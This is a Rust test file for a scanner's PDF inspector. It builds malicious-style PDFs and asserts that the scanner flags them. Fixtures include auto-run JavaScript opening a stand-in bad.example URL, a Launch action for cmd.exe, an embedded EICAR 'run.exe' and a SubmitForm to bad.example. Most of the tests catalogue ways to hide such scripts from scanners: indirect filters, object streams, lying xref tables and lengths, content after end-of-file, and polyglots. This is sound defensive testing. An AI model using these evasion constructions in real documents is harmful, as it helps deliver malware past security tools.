//! Small files made here.

mod encrypted;
mod work;

use std::io::Write as _;

use super::super::tests::{codes, examine, policy};
use crate::inspect::inspector::Examiner;

fn flate(data: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(data).unwrap();
    out.finish().unwrap()
}

fn stream(head: &str, data: &[u8]) -> Vec<u8> {
    [format!("<<{head}/Length {}>>\nstream\n", data.len()).as_bytes(), data, b"\nendstream"].concat()
}

fn file(objects: &[&[u8]]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    for (i, object) in objects.iter().enumerate() {
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(object);
        out.extend_from_slice(b"\nendobj\n");
    }
    out.extend_from_slice(b"trailer <</Root 1 0 R>>\n%%EOF\n");
    out
}

#[test]
fn iso32000_12_6_actions_are_found_in_every_disguise() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    let in_stream = |object: &str| {
        let body = format!("9 0 {object}");
        stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", &flate(body.as_bytes()))
    };
    let eicar = concat!("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
    let hexed: String = flate(eicar.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
    let cases: Vec<(Vec<u8>, &[&str], &[&str])> = vec![
        (
            file(&[
                b"<</Type/Catalog/OpenAction 2 0 R>>",
                b"<</S/JavaScript/JS(app.launchURL('http://bad.example/'))>>",
            ]),
            &["pdf.javascript", "pdf.open-action", "pdf.script-suspicious"],
            &[],
        ),
        (
            file(&[
                b"<</Type/Catalog/OpenAction<</S/J#61vaScript/J#53 2 0 R>>>>",
                &stream("/Filter/FlateDecode", &flate(b"this.exportDataObject({cName:'x',nLaunch:2})")),
            ]),
            &["pdf.hidden-name", "pdf.javascript", "pdf.script-suspicious"],
            &[],
        ),
        (file(&[b"<</Type/Catalog>>", &in_stream("<</S/Launch/F(cmd.exe)>>")]), &["pdf.launch"], &[]),
        (
            file(&[
                b"<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>",
                b"<</Type/Filespec/UF(run.exe)/EF<</F 3 0 R>>>>",
                &stream("/Type/EmbeddedFile/Filter[/ASCIIHexDecode/FlateDecode]", hexed.as_bytes()),
            ]),
            &["malware.eicar", "pdf.embedded-program"],
            &[],
        ),
        (
            [&[b'x'; 900], &file(&[b"<</AA<</O<</S/SubmitForm/F(http://bad.example/)>>>>>>"])[..]].concat(),
            &["pdf.submit-form", "pdf.open-action"],
            &[],
        ),
        (file(&[b"<</S/GoToR/F(\\\\\\\\bad.example\\\\x)>>"]), &["pdf.remote-file"], &[]),
        (
            file(&[
                b"<</Type/Catalog/OpenAction[2 0 R/Fit]>>",
                b"<</Type/Page/A<</S/URI/URI(https://good.example/)>>>>",
            ]),
            &[],
            &["pdf."],
        ),
        (
            file(&[b"<</Type/Catalog>>"]).iter().copied().chain(*b"trailer<</Encrypt 5 0 R>>").collect(),
            &["pdf.encrypted"],
            &[],
        ),
    ];
    for (i, (body, wanted, unwanted)) in cases.into_iter().enumerate() {
        let found = codes(&examine(&examiner, "a.pdf", "application/pdf", &body));
        for code in wanted {
            assert!(found.iter().any(|c| c == code), "{i}: no {code} in {found:?}");
        }
        for code in unwanted {
            assert!(!found.iter().any(|c| c.starts_with(code)), "{i}: {code} in {found:?}");
        }
    }
}

#[test]
fn links_and_text_of_pages_are_read() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let page = stream("/Filter/FlateDecode", &flate(b"BT /F1 12 Tf (go to http://bad.ex) Tj (ample/pay now) Tj ET"));
    let body = file(&[b"<</S/URI/URI(http://other.example/a)>>", &page]);
    let facts = examine(&Examiner::new(&loaded), "a.pdf", "application/pdf", &body);
    for url in ["http://bad.example/pay", "http://other.example/a"] {
        assert!(facts.urls.iter().any(|u| u == url), "{url}: {:?}", facts.urls);
    }
}

#[test]
fn depth_and_loops_cost_nothing() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    for body in [
        file(&["[".repeat(200_000).as_bytes()]),
        file(&["<</A".repeat(50_000).as_bytes()]),
        file(&["(".repeat(200_000).as_bytes()]),
        "1 0 obj ".repeat(50_000).into_bytes(),
        [b"%PDF-1.7 ".as_slice(), "1 0 obj (".repeat(50_000).as_bytes()].concat(),
    ] {
        examine(&examiner, "a.pdf", "application/pdf", &body);
    }
}

#[test]
fn iso32000_7_6_files_that_need_no_password_are_opened() {
    use base64::Engine as _;
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    for (method, coded) in encrypted::FILES {
        let body = base64::engine::general_purpose::STANDARD.decode(coded).unwrap();
        let facts = examine(&examiner, "a.pdf", "application/pdf", &body);
        let found = codes(&facts);
        assert!(found.contains(&"pdf.script-suspicious".to_owned()), "{method}: {found:?}");
        assert!(!found.contains(&"pdf.encrypted".to_owned()), "{method}: {found:?}");
        assert!(facts.urls.iter().any(|u| u.contains(method)), "{method}: {:?}", facts.urls);
    }
}

/// Ways to keep a scanner from what a viewer shows: the same script each time.
#[test]
fn what_is_hidden_from_scanners_is_found() {
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let examiner = Examiner::new(&loaded);
    let source = b"app.launchURL('http://bad.example/')";
    let root = b"<</Type/Catalog/OpenAction 2 0 R>>".as_slice();
    let action = b"<</S/JavaScript/JS 3 0 R>>".as_slice();
    let hex = |data: &[u8]| data.iter().map(|b| format!("{b:02X}")).collect::<String>().into_bytes();
    let whole = |objects: &[&[u8]]| file(objects);
    let script = stream("/Filter/FlateDecode", &flate(source));
    let object = |number: u32, body: &[u8]| [format!("{number} 0 obj\n").as_bytes(), body, b"\nendobj\n"].concat();
    let packed = |objects: &[(u32, &str)]| {
        let (mut head, mut body) = (String::new(), String::new());
        for (number, text) in objects {
            head.push_str(&format!("{number} {} ", body.len()));
            body.push_str(text);
            body.push(' ');
        }
        stream(
            &format!("/Type/ObjStm/N {}/First {}/Filter/Fl", objects.len(), head.len()),
            &flate(format!("{head}{body}").as_bytes()),
        )
    };
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("abbreviated filters in a chain", whole(&[root, action, &stream("/Filter[/AHx/Fl]", &hex(&flate(source)))])),
        (
            "the filter in an object of its own",
            whole(&[root, action, &stream("/Filter 4 0 R", &flate(source)), b"/FlateDecode"]),
        ),
        (
            "the chain in an object of its own",
            whole(&[root, action, &stream("/Filter 4 0 R", &hex(&flate(source))), b"[/ASCIIHexDecode /FlateDecode]"]),
        ),
        (
            "the kind of action in an object of its own",
            whole(&[root, b"<</S 4 0 R/JS 3 0 R>>", &script, b"/JavaScript"]),
        ),
        (
            "everything in object streams",
            whole(&[&packed(&[
                (1, "<</Type/Catalog/OpenAction 2 0 R>>"),
                (2, "<</S/JavaScript/JS(app.launchURL\\050'http://bad.example/'\\051)>>"),
            ])]),
        ),
        ("the kind of the object stream by reference", {
            let inner = stream(
                "/Type 5 0 R/N 1/First 6 0 R/Filter/FlateDecode",
                &flate(b"9 0 <</S/JavaScript/JS(app.launchURL('http://bad.example/'))>>"),
            );
            whole(&[root, &inner, b"null", b"null", b"/ObjStm", b"4"])
        }),
        (
            "behind the end of file",
            [
                whole(&[b"<</Type/Catalog>>"]),
                object(7, b"<</AA<</O<</S/JavaScript/JS(app.launchURL('http://bad.example/'))>>>>>>"),
            ]
            .concat(),
        ),
        (
            "in an older revision",
            [whole(&[root, b"<</S/JavaScript/JS(app.launchURL('http://bad.example/'))>>"]), object(2, b"<</S/GoTo>>")]
                .concat(),
        ),
        ("a table that lies", {
            let mut data = whole(&[root, action, &script]);
            data.extend(
                b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer<</Size 2>>\nstartxref\n9999999\n%%EOF",
            );
            data
        }),
        ("names with codes and comments", whole(&[root, b"<</#53%x\n/Java#53cript/J#53%y\r3 0 R>>", &script])),
        (
            "a length that lies",
            whole(&[
                root,
                action,
                &[b"<</Filter/FlateDecode/Length 3>>stream\r\n".as_slice(), &flate(source), b"\nendstream"].concat(),
            ]),
        ),
        (
            "a string in UTF-16",
            whole(&[root, &{
                let mut text = b"<</S/JavaScript/JS<FEFF".to_vec();
                source.iter().for_each(|b| text.extend(format!("00{b:02x}").bytes()));
                text.extend(b">>>");
                text
            }]),
        ),
        ("a header far down", [vec![b'\n'; 1000], whole(&[root, action, &script])].concat()),
        (
            "no end of objects",
            [b"%PDF-1.1\n1 0 obj<</OpenAction 2 0 R>>2 0 obj<</S/JavaScript/JS 3 0 R>>3 0 obj".as_slice(), &script]
                .concat(),
        ),
    ];
    for (name, body) in cases {
        let facts = examine(&examiner, "a.pdf", "application/pdf", &body);
        let found = codes(&facts);
        for code in ["pdf.javascript", "pdf.script-suspicious"] {
            assert!(found.iter().any(|c| c == code), "{name}: no {code} in {found:?}");
        }
        assert!(facts.urls.iter().any(|u| u == "http://bad.example/"), "{name}: {:?}", facts.urls);
    }
}

#[test]
fn a_web_archive_behind_a_pdf_is_opened() {
    use base64::Engine as _;
    let policy = policy();
    let loaded = policy.open(None).unwrap();
    let eicar = concat!("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
    let coded = base64::engine::general_purpose::STANDARD.encode(eicar);
    let archive = format!(
        "\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n\
         Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n{coded}\r\n--b--\r\n"
    );
    let body = [file(&[b"<</Type/Catalog>>"]), archive.into_bytes()].concat();
    let found = codes(&examine(&Examiner::new(&loaded), "a.doc", "application/msword", &body));
    for code in ["malware.eicar", "pdf.polyglot"] {
        assert!(found.iter().any(|c| c == code), "no {code} in {found:?}");
    }
}
